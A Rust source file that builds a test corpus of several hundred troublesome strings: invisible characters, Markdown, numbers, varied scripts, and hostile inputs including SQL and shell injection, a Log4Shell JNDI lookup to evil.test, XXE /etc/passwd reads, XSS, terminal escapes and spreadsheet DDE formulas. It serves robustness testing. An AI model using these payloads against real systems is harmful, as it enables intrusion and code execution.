//! Several hundred texts that mean something to a program: each control character, formulas, markup, escapes of shells and terminals, words and
//! numbers that are taken for values, and scripts that few programs show well.

use std::sync::OnceLock;

/// What separates lines somewhere.
const BREAKS: [&str; 8] = [
    "\n", "\r", "\r\n", "\r\n ", "\u{b}", "\u{c}", "\u{85}", "\u{2028}",
];

/// Characters that are not seen, turn the direction of a line, or are none.
const UNSEEN: &str = "\u{ad}\u{34f}\u{61c}\u{115f}\u{1160}\u{17b4}\u{180b}\u{180e}\u{2000}\u{2003}\u{2009}\u{200a}\u{200b}\u{200c}\u{200d}\u{200e}\u{200f}\u{2028}\u{2029}\u{202a}\u{202b}\u{202c}\u{202d}\u{202e}\u{202f}\u{205f}\u{2060}\u{2061}\u{2062}\u{2063}\u{2064}\u{2065}\u{2066}\u{2067}\u{2068}\u{2069}\u{206a}\u{206f}\u{2800}\u{3000}\u{3164}\u{e000}\u{f8ff}\u{fdd0}\u{fe00}\u{fe0f}\u{feff}\u{ffa0}\u{fff9}\u{fffa}\u{fffb}\u{fffc}\u{fffd}\u{fffe}\u{ffff}\u{1d173}\u{1f1e6}\u{1fffe}\u{e0001}\u{e0020}\u{e007f}\u{e0100}\u{f0000}\u{10ffff}";

/// What means something in Markdown.
const MARKS: &str = "\\`*_{}[]()#+-.!|<>~:=^$&%@'\"/;,?";

const TAGS: [&str; 20] = [
    "script", "img", "svg", "iframe", "a", "b", "style", "title", "textarea", "template", "math",
    "base", "meta", "link", "object", "embed", "form", "input", "video", "body",
];

/// Words that a program takes for a value or a file of its own.
const WORDS: &str = "undefined undef null NULL (null) nil NIL true false True False TRUE None hasOwnProperty then constructor __proto__ \
    toString \\ \\\\ CON PRN AUX NUL CLOCK$ COM1 LPT1 .. . / ~ * - -- --version -rf Infinity -Infinity NaN #N/A #REF! #NAME? yes no on off \
    localhost 127.0.0.1 root admin DOMAIN$ %TEMP% $HOME ${HOME} !! !$ ?? <% %> <? ?>";

/// Numbers, and what looks like one.
const NUMBERS: &str = "0 1 1.00 $1.00 1/2 1E2 1E02 1E+02 -1 -1.00 -$1.00 -1/2 -1E2 +1 1/0 0/0 -2147483648 2147483648 -9223372036854775808 \
    18446744073709551616 0.00 0..0 . 0.0.0 0,00 0,,0 , 0,0,0 0.0/0 1.0/0.0 --1 -. -, 999999999999999999999999999999999999 0x0 0xffffffff \
    0xabad1dea 1,000.00 1.000,00 1'000.00 01000 08 09 2.2250738585072011e-308 1e-400 ١٢٣ ½ ² 2026-02-30 0000-00-00 24:00 9999-12-31 +46 \
    00000000000 +1 1#INF";

/// What a shell, a database, a template, a terminal or a reader of files would do something with.
const ORDERS: [&str; 48] = [
    "1;DROP TABLE users",
    "1'; DROP TABLE users-- 1",
    "' OR 1=1 -- 1",
    "' OR '1'='1",
    "'; EXEC xp_cmdshell('dir'); --",
    "\" OR \"\"=\"",
    "%' AND 1=0 UNION ALL SELECT 1 --",
    "_",
    "%",
    "/dev/null; touch x ; echo",
    "`touch x`",
    "$(touch x)",
    "@{[system \"touch x\"]}",
    "eval(\"puts 1\")",
    "Kernel.exit(1)",
    "`ls -al /`",
    "${jndi:ldap://evil.test/a}",
    "{{constructor.constructor('x')()}}",
    "{% raw %}",
    "#{1}",
    "<!ENTITY x SYSTEM \"file:///etc/passwd\">]><x>&x;</x>",
    "<?xml version=\"1.0\"?><!DOCTYPE x>",
    "<![CDATA[x]]>",
    "() { 0; }; touch x",
    "%d%s%n%x%*.*s",
    "{0}{x!r}%(x)s",
    "../../../../etc/passwd%00",
    "..\\..\\windows\\system32",
    "file:///etc/passwd",
    "C:\\con\\con",
    "\\\\evil.test\\share",
    "vbscript:msgbox(1)",
    "java\tscript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "//evil.test/x.js",
    "\u{1b}[2J\u{1b}[H",
    "\u{1b}[31mred\u{1b}[0m",
    "\u{1b}]8;;http://evil.test\u{1b}\\x\u{1b}]8;;\u{1b}\\",
    "\u{1b}]52;c;eA==\u{7}",
    "\u{1b}P$q\"p\u{1b}\\",
    "\u{1b}_x\u{1b}\\",
    "\u{1b}[6n",
    "\u{1b}c",
    "\u{9d}0;x\u{9c}",
    "\u{8}\u{8}\u{8}\u{7f}",
    "a\rb",
    "Roses are \u{1b}[0;31mred",
    "But now...\u{1b}[20Cfor my greatest trick...",
];

/// Scripts, signs and forms of letters.
const SIGNS: [&str; 56] = [
    "Ω≈ç√∫˜µ≤≥÷",
    "åß∂ƒ©˙∆˚¬…æ",
    "ЁЂЃЄЅІЇЈЉЊЋЌЍЎЏ",
    "⁰⁴⁵₀₁₂",
    "ด้้้้้็็็็็้้้้้็็็็็",
    "田中さんにあげて下さい",
    "パーティーへ行かないか",
    "和製漢語",
    "社會科學院語學研究所",
    "울란바토르",
    "𠜎𠜱𠝹𠱓𠱸",
    "Ⱥ",
    "ⱾȾ",
    "ヽ༼ຈل͜ຈ༽ﾉ",
    "(｡◕ ∀ ◕｡)",
    "｀ｨ(´∀｀∩",
    "❤️ 💔 💌",
    "👩🏽",
    "👨‍🦰 👨🏿‍🦰",
    "👾 🙇 💁 🙅",
    "🐵 🙈 🙉 🙊",
    "👨‍👩‍👧‍👦",
    "🏳️‍🌈",
    "0️⃣ 1️⃣ 🔟",
    "🇺🇸🇷🇺🇸",
    "🇺🇸🇷🇺🇸🇦🇫🇦🇲🇸",
    "🏴\u{e0067}\u{e0062}\u{e0073}\u{e0063}\u{e0074}\u{e007f}",
    "١٢٣",
    "ثم نفس سقطت",
    "בְּרֵאשִׁית",
    "הָיְתָהtestالصفحات",
    "﷽",
    "ﷺ",
    "مُنَاقَشَةُ",
    "᚛ᚄᚓᚐᚋᚒᚄ᚜",
    "ᚐ\u{1680}ᚐ",
    "Ṱ̺̺̕o͞ ̷i̲̬n̝̗v̟̜o̘̙k̝̬",
    "\u{301}\u{301}\u{301}",
    "˙ɐnbᴉlɐ ɐuƃɐɯ",
    "Ｔｈｅ ｑｕｉｃｋ",
    "𝐓𝐡𝐞 𝕢𝕦𝕚𝕔𝕜",
    "🅣🅗🅔",
    "⒯⒣⒠",
    "ŁŒ Æ Ø Đ",
    "ŉ ǰ ΐ",
    "ẞ ſ ﬀ ﬃ ﬅ",
    "İI ıi",
    "Ǆ ǅ ǆ",
    "ΑΣ ας",
    "క్షమించండి",
    "క\u{c4d}\u{200c}ష",
    "नमस्ते",
    "ខ្មែរ",
    "မြန်မာ",
    "ཨོཾ་མ་ཎི་",
    "\u{1100}\u{1161}\u{11a8}",
];

/// All of them, each once.
pub fn all() -> &'static [String] {
    static ALL: OnceLock<Vec<String>> = OnceLock::new();
    ALL.get_or_init(|| {
        let mut all = characters();
        all.extend(forms());
        all.extend(
            WORDS
                .split(' ')
                .chain(NUMBERS.split(' '))
                .map(str::to_owned),
        );
        all.extend(ORDERS.into_iter().chain(SIGNS).map(str::to_owned));
        all.extend(["x", "é", "a ", "Z\u{301}", "<b>", "👩\u{200d}"].map(|one| one.repeat(1500)));
        all.sort();
        all.dedup();
        all.retain(|text| !text.is_empty());
        all
    })
}

/// Each character that is for a device or unseen, between letters and before a formula.
fn characters() -> Vec<String> {
    let controls = ('\0'..' ').chain('\u{7f}'..'\u{a0}').chain(UNSEEN.chars());
    controls
        .flat_map(|c| [format!("a{c}b"), format!("{c}=1+1")])
        .collect()
}

/// Formulas, tags, Markdown and lines of cards, each in several forms.
fn forms() -> Vec<String> {
    let mut all = Vec::new();
    for lead in [
        "=", "+", "-", "@", "＝", "＋", "－", "＠", " =", "\t=", "'=", "\"=",
    ] {
        for tail in [
            "1+1",
            "cmd|' /C calc'!A0",
            "HYPERLINK(\"http://evil.test\",\"x\")",
            "DDE(\"cmd\";\"/C calc\";\"x\")",
        ] {
            all.push(format!("{lead}{tail}"));
        }
    }
    for tag in TAGS {
        all.extend([
            format!("<{tag}>"),
            format!("</{tag}>"),
            format!("<{tag} onload=alert(1)>"),
            format!("\"><{tag} src=x onerror=alert(1)>"),
            format!("'/><{}/x", tag.to_uppercase()),
        ]);
    }
    for mark in MARKS.chars() {
        all.extend([
            format!("{mark}x{mark}"),
            format!("{mark}{mark}x{mark}{mark}"),
            format!("{mark} x"),
            format!("{mark}{mark}{mark}"),
        ]);
    }
    for between in BREAKS {
        for line in ["NOTE:injected", "END:VCARD", "# x", "| x |"] {
            all.push(format!("x{between}{line}"));
        }
    }
    all
}
